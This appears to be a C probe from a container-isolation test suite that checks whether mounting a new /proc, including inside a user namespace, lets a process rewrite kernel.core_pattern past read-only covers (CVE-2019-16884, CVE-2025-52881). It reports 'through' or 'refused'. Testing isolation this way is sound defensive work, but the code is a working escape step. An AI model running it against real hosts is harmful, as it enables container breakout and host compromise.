/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: no new /proc where the old one is covered; filter: no mounts
 * cve: CVE-2019-16884, CVE-2025-52881
 * off: host
 * behind: --allow-userns
 * as: root
 *
 * A new /proc has no read-only covers over /proc/sys.
 */
#include "attack.h"
#include <sys/mount.h>
#include <sys/wait.h>

static int mount_and_write(void)
{
	if (mount("proc", "p", "proc", 0, NULL))
		return errno;
	return rewrites("p/sys/kernel/core_pattern") ? 0 : errno;
}

int main(void)
{
	int status;
	pid_t pid;

	mkdir("p", 0700);
	if (!mount("proc", "p", "proc", 0, NULL)) {
		if (rewrites("p/sys/kernel/core_pattern")) {
			umount2("p", MNT_DETACH);
			through("core_pattern is written");
		}
		refused("write to a new /proc");
	}
	if (enter_userns(CLONE_NEWNS | CLONE_NEWPID))
		refused("unshare");
	pid = fork();
	if (pid == 0)
		_exit(mount_and_write());
	waitpid(pid, &status, 0);
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
	if (errno)
		refused("mount of proc in a user namespace");
	through("core_pattern is written");
}
